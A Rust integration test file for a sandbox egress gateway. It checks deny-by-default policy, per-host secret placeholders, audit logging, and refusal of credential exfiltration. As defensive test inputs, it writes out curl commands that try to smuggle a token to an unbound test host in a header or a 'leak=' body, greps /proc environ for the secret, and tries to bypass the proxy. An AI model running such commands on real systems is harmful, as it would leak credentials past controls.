//! Egress through the gateway, with real clients inside a Debian machine
//! (curl, git, apt) and real HTTPS servers on loopback with a CA of their
//! own: deny by default, live policy changes, wildcards, placeholders
//! swapped only for their hosts, exfiltration refused, the daemon and
//! internal addresses out of reach, the audit log, and no secret value
//! anywhere inside.

mod common;

use std::net::SocketAddr;
use std::path::{Path, PathBuf};
use std::sync::Arc;

use base64::Engine;
use bytes::Bytes;
use common::Daemon;
use http_body_util::{BodyExt, Full};
use hyper::{Request, Response, StatusCode};
use reqwest::Method;
use serde_json::{Value, json};

const SECRET_VALUE: &str = "ghp_REALVALUE0123456789";

/// HTTPS and HTTP test servers on loopback. `/echo` says whether the
/// request carried the real secret (without echoing it), `/git/` and
/// `/apt/` serve files (`/git/` only with the secret as Basic credentials,
/// as a git host does).
struct Upstream {
    https: SocketAddr,
    http: SocketAddr,
    ca: PathBuf,
    _dir: tempfile::TempDir,
}

fn auth_state(req: &Request<hyper::body::Incoming>) -> &'static str {
    let Some(v) = req.headers().get("authorization").and_then(|v| v.to_str().ok()) else {
        return "missing";
    };
    let basic = base64::engine::general_purpose::STANDARD.encode(format!("x-access-token:{SECRET_VALUE}"));
    if v == format!("Bearer {SECRET_VALUE}") || v == format!("Basic {basic}") {
        "ok"
    } else {
        "wrong"
    }
}

async fn serve_one(root: Arc<PathBuf>, req: Request<hyper::body::Incoming>) -> Response<Full<Bytes>> {
    let path = req.uri().path().to_owned();
    let auth = auth_state(&req);
    let reply = |status: StatusCode, body: Vec<u8>| {
        let mut r = Response::new(Full::new(Bytes::from(body)));
        *r.status_mut() = status;
        r
    };
    if path == "/leak" {
        // A careless upstream that quotes the credential back.
        let auth = req.headers().get("authorization").map(|v| v.as_bytes().to_vec());
        return reply(StatusCode::OK, auth.unwrap_or_default());
    }
    if path.starts_with("/echo") {
        let method = req.method().to_string();
        let query = req.uri().query().unwrap_or("").to_owned();
        let x_test = req.headers().get("x-test").map(|v| v.to_str().unwrap_or("").to_owned());
        let body = req.into_body().collect().await.unwrap().to_bytes();
        let body = String::from_utf8_lossy(&body).into_owned();
        let v = json!({
            "method": method, "path": path, "auth": auth,
            "query_has_value": query.contains(SECRET_VALUE),
            "body_has_value": body.contains(SECRET_VALUE),
            "x_test": x_test,
        });
        return reply(StatusCode::OK, v.to_string().into_bytes());
    }
    let rel = path.trim_start_matches('/');
    if rel.contains("..") || !(rel.starts_with("git/") || rel.starts_with("apt/")) {
        return reply(StatusCode::NOT_FOUND, b"not found\n".to_vec());
    }
    if rel.starts_with("git/") && auth != "ok" {
        let mut r = reply(StatusCode::UNAUTHORIZED, b"credentials, please\n".to_vec());
        r.headers_mut()
            .insert("www-authenticate", "Basic realm=\"git\"".parse().unwrap());
        return r;
    }
    match std::fs::read(root.join(rel)) {
        Ok(data) => reply(StatusCode::OK, data),
        Err(_) => reply(StatusCode::NOT_FOUND, b"not found\n".to_vec()),
    }
}

async fn serve<S: tokio::io::AsyncRead + tokio::io::AsyncWrite + Unpin + Send + 'static>(
    stream: S,
    root: Arc<PathBuf>,
) {
    let svc = hyper::service::service_fn(move |req| {
        let root = root.clone();
        async move { Ok::<_, std::convert::Infallible>(serve_one(root, req).await) }
    });
    let _ = hyper::server::conn::http1::Builder::new()
        .serve_connection(hyper_util::rt::TokioIo::new(stream), svc)
        .await;
}

impl Upstream {
    fn start(root: PathBuf, names: &[&str]) -> Upstream {
        hangar_image::install_crypto_provider();
        let dir = tempfile::tempdir().unwrap();
        let ca_key = rcgen::KeyPair::generate().unwrap();
        let mut ca_params = rcgen::CertificateParams::new(Vec::<String>::new()).unwrap();
        ca_params.is_ca = rcgen::IsCa::Ca(rcgen::BasicConstraints::Unconstrained);
        ca_params
            .distinguished_name
            .push(rcgen::DnType::CommonName, "egress test upstream CA");
        let ca_cert = ca_params.self_signed(&ca_key).unwrap();
        let ca = dir.path().join("upstream-ca.pem");
        std::fs::write(&ca, ca_cert.pem()).unwrap();
        let issuer = rcgen::Issuer::new(ca_params, ca_key);
        let mut sans: Vec<String> = names.iter().map(|s| s.to_string()).collect();
        sans.push("127.0.0.1".into());
        let leaf_key = rcgen::KeyPair::generate().unwrap();
        let leaf = rcgen::CertificateParams::new(sans)
            .unwrap()
            .signed_by(&leaf_key, &issuer)
            .unwrap();
        let key = rustls::pki_types::PrivateKeyDer::try_from(leaf_key.serialize_der()).unwrap();
        let mut tls = rustls::ServerConfig::builder()
            .with_no_client_auth()
            .with_single_cert(vec![leaf.der().clone()], key)
            .unwrap();
        tls.alpn_protocols = vec![b"http/1.1".to_vec()];
        let acceptor = tokio_rustls::TlsAcceptor::from(Arc::new(tls));

        let https = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
        let http = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
        let (https_addr, http_addr) = (https.local_addr().unwrap(), http.local_addr().unwrap());
        let root = Arc::new(root);
        std::thread::spawn(move || {
            let rt = tokio::runtime::Builder::new_multi_thread()
                .worker_threads(2)
                .enable_all()
                .build()
                .unwrap();
            rt.block_on(async move {
                https.set_nonblocking(true).unwrap();
                http.set_nonblocking(true).unwrap();
                let https = tokio::net::TcpListener::from_std(https).unwrap();
                let http = tokio::net::TcpListener::from_std(http).unwrap();
                loop {
                    tokio::select! {
                        Ok((s, _)) = https.accept() => {
                            let (acceptor, root) = (acceptor.clone(), root.clone());
                            tokio::spawn(async move {
                                if let Ok(tls) = acceptor.accept(s).await {
                                    serve(tls, root).await;
                                }
                            });
                        }
                        Ok((s, _)) = http.accept() => {
                            tokio::spawn(serve(s, root.clone()));
                        }
                    }
                }
            });
        });
        Upstream {
            https: https_addr,
            http: http_addr,
            ca,
            _dir: dir,
        }
    }
}

/// A bare repository with one commit, servable over git's dumb HTTP.
fn git_repo(root: &Path) {
    let work = root.join("work");
    std::fs::create_dir_all(&work).unwrap();
    let git = |dir: &Path, args: &[&str]| {
        common::sh(
            std::process::Command::new("git")
                .args([
                    "-c",
                    "user.name=t",
                    "-c",
                    "user.email=t@t",
                    "-c",
                    "init.defaultBranch=main",
                ])
                .args(args)
                .current_dir(dir),
        )
    };
    git(&work, &["init", "-q"]);
    std::fs::write(work.join("README"), "cloned through the gateway\n").unwrap();
    git(&work, &["add", "README"]);
    git(&work, &["commit", "-q", "-m", "first"]);
    git(root, &["clone", "-q", "--bare", "work", "git/repo.git"]);
    git(&root.join("git/repo.git"), &["update-server-info"]);
}

/// Runs a script in the machine; returns (exit code, stdout + stderr).
async fn run(d: &Daemon, app: &str, id: &str, script: &str) -> (i64, String) {
    let r = d.exec(app, id, &["sh", "-c", script]).await;
    let out = format!(
        "{}{}",
        r["stdout"].as_str().unwrap_or(""),
        r["stderr"].as_str().unwrap_or("")
    );
    (r["exit_code"].as_i64().unwrap_or(-1), out)
}

async fn log_entries(d: &Daemon, app: &str, id: &str) -> Vec<Value> {
    let log = d
        .ok(
            Method::GET,
            &format!("/v1/apps/{app}/egress-log?machine={id}&limit=1000"),
            None,
        )
        .await;
    log["entries"].as_array().unwrap().clone()
}

#[tokio::test(flavor = "multi_thread")]
async fn egress_through_the_gateway() {
    let root = tempfile::tempdir().unwrap();
    git_repo(root.path());
    std::os::unix::fs::symlink(common::apt_repo(), root.path().join("apt")).unwrap();
    let names = ["api.test", "x.wild.test", "wild.test", "mirror.test"];
    let up = Upstream::start(root.path().to_owned(), &names);
    let mut args: Vec<String> = vec!["--egress-upstream-ca".into(), up.ca.display().to_string()];
    for n in names {
        args.push("--egress-resolve".into());
        args.push(format!("{n}=127.0.0.1"));
    }
    let args: Vec<&str> = args.iter().map(String::as_str).collect();
    let d = Daemon::start_with(&args);
    let image = common::debian_image();
    d.create_app("eg").await;

    // Secrets: the value is sealed, never returned, and bad input is refused.
    let (status, body) = d
        .call(
            Method::POST,
            "/v1/apps/eg/secrets",
            Some(json!({ "name": "GH_TOKEN", "value": SECRET_VALUE, "allowed_hosts": [] })),
        )
        .await;
    assert_eq!(status, 400, "{body}");
    assert!(body["error"].as_str().unwrap().contains("allowed_hosts"), "{body}");
    let secret = d
        .ok(
            Method::POST,
            "/v1/apps/eg/secrets",
            Some(json!({ "name": "GH_TOKEN", "value": SECRET_VALUE, "allowed_hosts": ["api.test"] })),
        )
        .await;
    assert_eq!(secret["version"], 1);
    let listed = d.ok(Method::GET, "/v1/apps/eg/secrets", None).await;
    assert!(!listed.to_string().contains(SECRET_VALUE), "{listed}");
    let (status, body) = d
        .call(
            Method::POST,
            "/v1/apps/eg/machines",
            Some(json!({ "config": { "image": image, "secrets": ["NOPE"] } })),
        )
        .await;
    assert_eq!(status, 400, "{body}");
    assert!(body["error"].as_str().unwrap().contains("NOPE"), "{body}");

    let m = d
        .machine("eg", json!({ "image": image, "secrets": ["GH_TOKEN"] }))
        .await;
    let id = m["id"].as_str().unwrap().to_owned();
    let echo = format!("https://api.test:{}/echo", up.https.port());

    // Deny by default: no policy, nothing leaves.
    let (code, out) = run(&d, "eg", &id, &format!("curl -sS {echo}")).await;
    assert_ne!(code, 0, "{out}");
    assert!(out.contains("403"), "{out}");
    let (_, out) = run(
        &d,
        "eg",
        &id,
        &format!("curl -s http://api.test:{}/echo", up.http.port()),
    )
    .await;
    assert!(
        out.contains("egress_denied") && out.contains("deny by default"),
        "{out}"
    );

    // A policy takes effect on the next request, with no restart.
    let daemon = d.url.trim_start_matches("http://").to_owned();
    let allow = json!([
        "api.test",
        "*.wild.test",
        "localhost",
        format!("127.0.0.1:{}", up.http.port()),
        daemon
    ]);
    d.ok(
        Method::PUT,
        "/v1/apps/eg/egress-policy",
        Some(json!({ "allow": allow })),
    )
    .await;
    let out = d
        .sh(
            "eg",
            &id,
            &format!("curl -sS --fail-with-body -H \"Authorization: Bearer $GH_TOKEN\" {echo}"),
        )
        .await;
    let v: Value = serde_json::from_str(&out).unwrap();
    assert_eq!(
        v["auth"], "ok",
        "the gateway swapped the placeholder for the value: {v}"
    );

    // An upstream that quotes the value back hands the machine the
    // placeholder instead.
    let leak = d
        .sh(
            "eg",
            &id,
            &format!(
                "curl -sS -H \"Authorization: Bearer $GH_TOKEN\" https://api.test:{}/leak",
                up.https.port()
            ),
        )
        .await;
    assert!(
        leak.starts_with("Bearer hangar_secret_") && !leak.contains(SECRET_VALUE),
        "{leak}"
    );

    // Fly tokenizer's wire format: a secret sealed by the client to the
    // gateway's key, usable with the proxy token whose digest it holds.
    let seal_key = d.ok(Method::GET, "/v1/egress/seal-key", None).await["seal_key"]
        .as_str()
        .unwrap()
        .to_owned();
    let seal_key = crypto_box::PublicKey::from_slice(&hex::decode(seal_key).unwrap()).unwrap();
    let b64 = |b: &[u8]| base64::engine::general_purpose::STANDARD.encode(b);
    let sealed = json!({
        "inject_processor": { "token": SECRET_VALUE },
        "bearer_auth": { "digest": b64(&<sha2::Sha256 as sha2::Digest>::digest(b"trustno1")) },
        "allowed_hosts": [format!("api.test:{}", up.https.port())],
    });
    let sealed = b64(&seal_key
        .seal(&mut crypto_box::aead::OsRng, sealed.to_string().as_bytes())
        .unwrap());
    let tokenizer = |proxy_token: &str| {
        format!(
            "curl -s -H 'Proxy-Tokenizer: {sealed}' -H 'Proxy-Authorization: Bearer {proxy_token}' http://api.test:{}/echo",
            up.https.port()
        )
    };
    let out = d.sh("eg", &id, &tokenizer("trustno1")).await;
    assert!(out.contains("\"auth\":\"ok\""), "{out}");
    let out = d.sh("eg", &id, &tokenizer("guess")).await;
    assert!(out.contains("Proxy-Authorization"), "{out}");

    // Plain HTTP too, and a header without a placeholder passes as it is.
    let out = d
        .sh(
            "eg",
            &id,
            &format!(
                "curl -sS --fail-with-body -H 'X-Test: plain' http://api.test:{}/echo",
                up.http.port()
            ),
        )
        .await;
    let v: Value = serde_json::from_str(&out).unwrap();
    assert_eq!(
        (v["auth"].as_str(), v["x_test"].as_str()),
        (Some("missing"), Some("plain")),
        "{v}"
    );

    // The placeholder is not allowed in the URL unless the secret says so.
    let (_, out) = run(&d, "eg", &id, &format!("curl -s \"{echo}?t=$GH_TOKEN\"")).await;
    assert!(out.contains("egress_denied") && out.contains("URL"), "{out}");

    // Bodies too large to hold are streamed, and cut off if a placeholder
    // shows up in them.
    let big = "head -c 9437184 /dev/zero | tr '\\0' a > /root/big";
    let out = d
        .sh(
            "eg",
            &id,
            &format!("{big} && curl -sS --fail-with-body --data-binary @/root/big {echo}"),
        )
        .await;
    assert!(out.contains("\"method\":\"POST\""), "{out}");
    let (_, out) = run(
        &d,
        "eg",
        &id,
        &format!("echo $GH_TOKEN >> /root/big && curl -s --data-binary @/root/big {echo}; rm /root/big"),
    )
    .await;
    assert!(out.contains("egress_denied") && out.contains("cut off"), "{out}");

    // Wildcards match subdomains, not the name itself.
    let out = d
        .sh(
            "eg",
            &id,
            &format!("curl -sS --fail-with-body https://x.wild.test:{}/echo", up.https.port()),
        )
        .await;
    assert!(out.contains("\"auth\":\"missing\""), "{out}");
    let (code, out) = run(
        &d,
        "eg",
        &id,
        &format!("curl -sS https://wild.test:{}/echo", up.https.port()),
    )
    .await;
    assert_ne!(code, 0, "{out}");

    // The same placeholder to a host the secret is not bound to: refused
    // (in a header, and hidden in a body), however the policy allows the host.
    let wild = format!("https://x.wild.test:{}/echo", up.https.port());
    let (_, out) = run(&d, "eg", &id, &format!("curl -s -H \"X-Leak: $GH_TOKEN\" {wild}")).await;
    assert!(out.contains("egress_exfiltration") && out.contains("GH_TOKEN"), "{out}");
    let (_, out) = run(&d, "eg", &id, &format!("curl -s --data \"leak=$GH_TOKEN\" {wild}")).await;
    assert!(out.contains("egress_exfiltration"), "{out}");

    // Internal addresses only where the policy names the address (with its
    // port), and the daemon's own never, even when named: "localhost" names
    // a host, not 127.0.0.1.
    let proxy = "-x http://127.0.0.1:3128 --noproxy ''";
    let (_, out) = run(
        &d,
        "eg",
        &id,
        &format!("curl -s {proxy} http://localhost:{}/echo", up.https.port()),
    )
    .await;
    assert!(out.contains("internal"), "{out}");
    let ip_echo = format!("http://127.0.0.1:{}/echo", up.http.port());
    let out = d
        .sh("eg", &id, &format!("curl -sS --fail-with-body {proxy} {ip_echo}"))
        .await;
    assert!(
        out.contains("\"auth\":\"missing\""),
        "a rule naming the address allows it: {out}"
    );
    let (_, out) = run(&d, "eg", &id, &format!("curl -s {proxy} http://{daemon}/v1/apps")).await;
    assert!(out.contains("daemon's own address"), "{out}");

    // No way around the gateway: no routes, nothing else listening.
    let (code, out) = run(
        &d,
        "eg",
        &id,
        &format!("curl -sS --noproxy '*' -m 5 http://{daemon}/v1/apps"),
    )
    .await;
    assert_ne!(code, 0, "the daemon is not reachable directly: {out}");
    let (code, out) = run(&d, "eg", &id, &format!("curl -sS --noproxy '*' -m 5 {ip_echo}")).await;
    assert_ne!(code, 0, "loopback is the machine's own: {out}");
    let (code, out) = run(&d, "eg", &id, "curl -sS --noproxy '*' -m 5 http://192.0.2.1/").await;
    assert_eq!(code, 7, "no route out: {out}");
    let (code, out) = run(&d, "eg", &id, "bash -c 'echo x > /dev/udp/192.0.2.1/53'").await;
    assert!(code != 0 && out.contains("nreachable"), "no UDP either: {out}");

    // git over HTTPS with the token in the URL (Basic credentials).
    let out = d
        .sh(
            "eg",
            &id,
            &format!(
                "git clone -q https://x-access-token:$GH_TOKEN@api.test:{}/git/repo.git /root/repo && cat /root/repo/README",
                up.https.port()
            ),
        )
        .await;
    assert_eq!(out, "cloned through the gateway\n");

    // apt against a local mirror, through the proxy settings apt reads.
    d.ok(
        Method::PUT,
        &format!("/v1/apps/eg/machines/{id}/egress-policy"),
        Some(json!({ "allow": ["mirror.test"] })),
    )
    .await;
    let out = d
        .sh(
            "eg",
            &id,
            &format!(
                "echo 'deb [trusted=yes] http://mirror.test:{}/apt/ ./' > /etc/apt/sources.list && \
                 apt-get update -q >/dev/null && apt-get install -y -q hangar-hello >/dev/null 2>&1 && hangar-hello",
                up.http.port()
            ),
        )
        .await;
    assert_eq!(out, "hello from the local mirror\n");
    // The machine's own policy replaced the app's.
    let (code, _) = run(&d, "eg", &id, &format!("curl -sS --fail {echo}")).await;
    assert_ne!(code, 0);

    // The value is nowhere inside: not in the environment, the files
    // (including what git wrote), /proc, or a checkpoint.
    let env = d.sh("eg", &id, "printenv GH_TOKEN").await;
    assert!(env.starts_with("hangar_secret_"), "{env}");
    let (code, out) = run(
        &d,
        "eg",
        &id,
        &format!(
            "echo $GH_TOKEN > /root/token.txt; grep -rs -l '{SECRET_VALUE}' /root /etc /tmp /.hangar /proc/$(pidof sleep)/environ /proc/self/environ /proc/$(pidof sleep)/cmdline"
        ),
    )
    .await;
    assert_eq!(code, 1, "grep found the value: {out}");
    let ls = d.sh("eg", &id, "ls /.hangar/egress").await;
    assert_eq!(ls, "apt.conf\nca.pem\n", "only public files from the gateway");
    d.ok(
        Method::POST,
        &format!("/v1/apps/eg/machines/{id}/checkpoints"),
        Some(json!({})),
    )
    .await;
    let found = std::process::Command::new("grep")
        .args(["-r", "-l", SECRET_VALUE])
        .arg(&d.pool_dir)
        .output()
        .unwrap();
    assert!(found.stdout.is_empty(), "{}", String::from_utf8_lossy(&found.stdout));

    // The audit log: what went where, with which secret, never its value.
    let entries = log_entries(&d, "eg", &id).await;
    let text = serde_json::to_string(&entries).unwrap();
    assert!(!text.contains(SECRET_VALUE));
    let allowed_with_secret = entries
        .iter()
        .find(|e| e["outcome"] == "allowed" && e["secrets"] == json!(["GH_TOKEN"]) && e["path"] == "/echo")
        .unwrap_or_else(|| panic!("{text}"));
    assert_eq!(
        (
            allowed_with_secret["host"].as_str(),
            allowed_with_secret["scheme"].as_str()
        ),
        (Some("api.test"), Some("https"))
    );
    assert_eq!(allowed_with_secret["status"], 200);
    assert!(allowed_with_secret["bytes_received"].as_u64().unwrap() > 0);
    assert!(
        entries
            .iter()
            .any(|e| e["outcome"] == "exfiltration" && e["secrets"] == json!(["GH_TOKEN"]))
    );
    assert!(
        entries
            .iter()
            .any(|e| e["outcome"] == "denied" && e["method"] == "CONNECT")
    );
    // The CLI: values come from stdin (never the command line); set again
    // rotates; policies and the log.
    let set = |input: &str| {
        use std::io::Write;
        let mut child = std::process::Command::new(env!("CARGO_BIN_EXE_hangar"))
            .args(["secret", "set", "-a", "eg", "OTHER", "--host", "x.wild.test"])
            .env("HANGAR_DATA_DIR", d.data_dir.path())
            .stdin(std::process::Stdio::piped())
            .stdout(std::process::Stdio::piped())
            .stderr(std::process::Stdio::piped())
            .spawn()
            .unwrap();
        child.stdin.take().unwrap().write_all(input.as_bytes()).unwrap();
        child.wait_with_output().unwrap()
    };
    let empty = set("");
    assert!(!empty.status.success() && String::from_utf8_lossy(&empty.stderr).contains("1 byte"));
    assert_eq!(
        String::from_utf8_lossy(&set("v1\n").stdout),
        "sealed OTHER (version 1)\n"
    );
    assert_eq!(
        String::from_utf8_lossy(&set("v2\n").stdout),
        "sealed OTHER (version 2)\n"
    );
    let out = d.cli(&["egress", "allow", "-a", "eg", "pypi.org"]);
    assert!(out.status.success(), "{out:?}");
    let out = d.cli(&["egress", "policy", "-a", "eg", "--json"]);
    let policy: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(policy["allow"].as_array().unwrap().last().unwrap(), "pypi.org");
    let out = d.cli(&["egress", "log", "-a", "eg", "--machine", &id, "--json", "--limit", "3"]);
    let log: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(log["entries"].as_array().unwrap().len(), 3, "{log}");

    // Filtered by time.
    let later = d
        .ok(
            Method::GET,
            &format!("/v1/apps/eg/egress-log?machine={id}&since=2999-01-01T00:00:00Z"),
            None,
        )
        .await;
    assert_eq!(later["entries"], json!([]));
    let (status, body) = d
        .call(Method::GET, "/v1/apps/eg/egress-log?since=yesterday", None)
        .await;
    assert_eq!(status, 400, "{body}");
}

/// A daemon whose gateway trusts an upstream at `api.test`, an app `eg`
/// allowed to reach it with a secret GH_TOKEN bound to it, and a Debian
/// machine (with `extra` config) holding that secret; and the upstream's
/// (empty) file root, to keep until the test ends.
async fn one_secret_one_machine(extra: Value) -> (Daemon, Upstream, String, tempfile::TempDir) {
    let root = tempfile::tempdir().unwrap();
    let up = Upstream::start(root.path().to_owned(), &["api.test"]);
    let ca = up.ca.display().to_string();
    let d = Daemon::start_with(&["--egress-upstream-ca", &ca, "--egress-resolve", "api.test=127.0.0.1"]);
    d.create_app("eg").await;
    d.ok(
        Method::POST,
        "/v1/apps/eg/secrets",
        Some(json!({ "name": "GH_TOKEN", "value": SECRET_VALUE, "allowed_hosts": ["api.test"] })),
    )
    .await;
    d.ok(
        Method::PUT,
        "/v1/apps/eg/egress-policy",
        Some(json!({ "allow": ["api.test"] })),
    )
    .await;
    let mut config = json!({ "image": common::debian_image(), "secrets": ["GH_TOKEN"] });
    common::merge(&mut config, extra);
    let id = d.machine("eg", config).await["id"].as_str().unwrap().to_owned();
    (d, up, id, root)
}

/// Polls until the machine's request through the gateway gets `auth`.
async fn wait_for_auth(d: &Daemon, app: &str, id: &str, url: &str, want: &str) {
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(15);
    loop {
        let (_, out) = run(
            d,
            app,
            id,
            &format!("curl -s -H \"Authorization: Bearer $GH_TOKEN\" {url}"),
        )
        .await;
        if out.contains(&format!("\"auth\":\"{want}\"")) {
            return;
        }
        assert!(std::time::Instant::now() < deadline, "still {out}\n{}", d.log());
        tokio::time::sleep(std::time::Duration::from_millis(100)).await;
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn gateway_survives_restarts_rotation_and_forks() {
    let (mut d, up, id, _root) = one_secret_one_machine(json!({})).await;
    let echo = format!("https://api.test:{}/echo", up.https.port());
    wait_for_auth(&d, "eg", &id, &echo, "ok").await;

    // The gateway dies: the daemon starts another and registers the machine again.
    let first = d.gateway_pid().unwrap();
    // SAFETY: kill(2) on the gateway this test's daemon started.
    unsafe { libc::kill(first, libc::SIGKILL) };
    wait_for_auth(&d, "eg", &id, &echo, "ok").await;
    let second = d.gateway_pid().unwrap();
    assert_ne!(first, second);

    // The daemon dies: machines keep their way out, and the daemon comes
    // back to the same gateway.
    d.stop_daemon(libc::SIGKILL);
    let ctl = std::process::Command::new("nsenter")
        .args([
            "-t",
            &d.machine_pid(&id).to_string(),
            "-n",
            "-m",
            "curl",
            "-s",
            "-o",
            "/dev/null",
            "-w",
            "%{http_code}",
        ])
        .args([
            "-x",
            "http://127.0.0.1:3128",
            &format!("http://api.test:{}/echo", up.http.port()),
        ])
        .output()
        .unwrap();
    assert_eq!(String::from_utf8_lossy(&ctl.stdout), "200", "{ctl:?}");
    d.start_daemon();
    assert_eq!(d.gateway_pid(), Some(second));
    wait_for_auth(&d, "eg", &id, &echo, "ok").await;

    // Another machine's port is out of reach, directly or through the
    // gateway (which connects from the host, where nothing listens on it).
    let web = d
        .machine(
            "eg",
            json!({ "image": common::busybox_image(), "init": { "cmd": ["httpd", "-f", "-p", "8080"] } }),
        )
        .await;
    let web_id = web["id"].as_str().unwrap().to_owned();
    let page = d
        .sh(
            "eg",
            &web_id,
            "wget -Y off -q -O - http://127.0.0.1:8080/from-image.txt",
        )
        .await;
    assert_eq!(page, "image layer\n");
    d.ok(
        Method::PUT,
        &format!("/v1/apps/eg/machines/{id}/egress-policy"),
        Some(json!({ "allow": ["api.test", "127.0.0.1:8080"] })),
    )
    .await;
    let (code, out) = run(
        &d,
        "eg",
        &id,
        "curl -sS --noproxy '*' -m 5 http://127.0.0.1:8080/from-image.txt",
    )
    .await;
    assert_ne!(code, 0, "{out}");
    let (_, out) = run(
        &d,
        "eg",
        &id,
        "curl -s -x http://127.0.0.1:3128 --noproxy '' http://127.0.0.1:8080/from-image.txt",
    )
    .await;
    assert!(
        out.contains("egress_upstream_failed") && !out.contains("image layer"),
        "{out}"
    );

    // A stop and start keeps it too.
    d.ok(Method::POST, &format!("/v1/apps/eg/machines/{id}/stop"), None)
        .await;
    d.wait_state("eg", &id, "stopped").await;
    d.ok(Method::POST, &format!("/v1/apps/eg/machines/{id}/start"), None)
        .await;
    wait_for_auth(&d, "eg", &id, &echo, "ok").await;

    // Rotation: the next request carries the new value.
    d.ok(
        Method::PUT,
        "/v1/apps/eg/secrets/GH_TOKEN",
        Some(json!({ "value": "rotated", "allowed_hosts": ["api.test"] })),
    )
    .await;
    wait_for_auth(&d, "eg", &id, &echo, "wrong").await;
    d.ok(
        Method::PUT,
        "/v1/apps/eg/secrets/GH_TOKEN",
        Some(json!({ "value": SECRET_VALUE, "allowed_hosts": ["api.test"] })),
    )
    .await;
    wait_for_auth(&d, "eg", &id, &echo, "ok").await;

    // A fork gets no secrets unless asked; the parent's placeholder, copied
    // in its files, is refused there.
    d.sh("eg", &id, "echo $GH_TOKEN > /root/token").await;
    let fork = d
        .ok(
            Method::POST,
            &format!("/v1/apps/eg/machines/{id}/fork"),
            Some(json!({})),
        )
        .await;
    let fork_id = fork["id"].as_str().unwrap().to_owned();
    let (code, _) = run(&d, "eg", &fork_id, "printenv GH_TOKEN").await;
    assert_eq!(code, 1, "the fork has no GH_TOKEN");
    let (_, out) = run(
        &d,
        "eg",
        &fork_id,
        &format!("curl -s -H \"Authorization: Bearer $(cat /root/token)\" {echo}"),
    )
    .await;
    assert!(
        out.contains("egress_exfiltration") && out.contains("not one of this machine's"),
        "{out}"
    );
    let heir = d
        .ok(
            Method::POST,
            &format!("/v1/apps/eg/machines/{id}/fork"),
            Some(json!({ "inherit_secrets": true })),
        )
        .await;
    let heir_id = heir["id"].as_str().unwrap().to_owned();
    let parent_placeholder = d.sh("eg", &id, "printenv GH_TOKEN").await;
    let heir_placeholder = d.sh("eg", &heir_id, "printenv GH_TOKEN").await;
    assert_ne!(parent_placeholder, heir_placeholder, "placeholders are per machine");
    wait_for_auth(&d, "eg", &heir_id, &echo, "ok").await;
}

/// gVisor's network stack is its own: there the init relays the proxy's
/// address to the gateway's socket. Egress works the same, also after a
/// suspend to disk and resume.
#[tokio::test(flavor = "multi_thread")]
async fn egress_from_gvisor() {
    let (d, up, id, _root) = one_secret_one_machine(json!({ "runtime": "runsc" })).await;
    let echo = format!("https://api.test:{}/echo", up.https.port());
    wait_for_auth(&d, "eg", &id, &echo, "ok").await;
    let (_, out) = run(
        &d,
        "eg",
        &id,
        &format!("curl -s https://other.test:{}/", up.https.port()),
    )
    .await;
    assert!(!out.contains("\"auth\""), "denied: {out}");
    let (code, _) = run(
        &d,
        "eg",
        &id,
        &format!("curl -sS --noproxy '*' -m 5 http://127.0.0.1:{}/", up.http.port()),
    )
    .await;
    assert_ne!(code, 0, "no way around the gateway");

    d.ok(Method::POST, &format!("/v1/apps/eg/machines/{id}/suspend"), None)
        .await;
    d.wait_state("eg", &id, "suspended").await;
    d.ok(Method::POST, &format!("/v1/apps/eg/machines/{id}/start"), None)
        .await;
    wait_for_auth(&d, "eg", &id, &echo, "ok").await;
}

/// Without a gateway, machines still run (with no way out), and secrets
/// can't be sealed: a clear 503, not a daemon that refuses to start.
#[tokio::test(flavor = "multi_thread")]
async fn without_a_gateway() {
    let d = Daemon::start_with(&["--egress-binary", "/nonexistent/hangar-egress"]);
    d.create_app("eg").await;
    let (status, body) = d
        .call(
            Method::POST,
            "/v1/apps/eg/secrets",
            Some(json!({ "name": "T", "value": "v", "allowed_hosts": ["h"] })),
        )
        .await;
    assert_eq!(status, 503, "{body}");
    assert!(body["error"].as_str().unwrap().contains("egress gateway"), "{body}");
    let m = d.machine("eg", json!({ "image": common::busybox_image() })).await;
    assert_eq!(m["state"], "started", "{m}");
    assert!(d.log().contains("machines have no egress until it answers"));
}
